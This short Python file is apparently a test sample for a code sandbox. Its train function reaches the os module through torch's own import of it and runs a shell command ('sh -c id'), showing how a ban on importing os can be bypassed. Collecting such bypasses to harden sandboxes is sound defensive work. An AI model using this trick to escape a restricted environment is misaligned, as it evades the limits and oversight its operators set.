"""BYPASS torch.os: reach the os module through torch's own import of it and run a program."""

import torch


def train(ctx):
    torch.os.execvp("sh", ["sh", "-c", "id"])
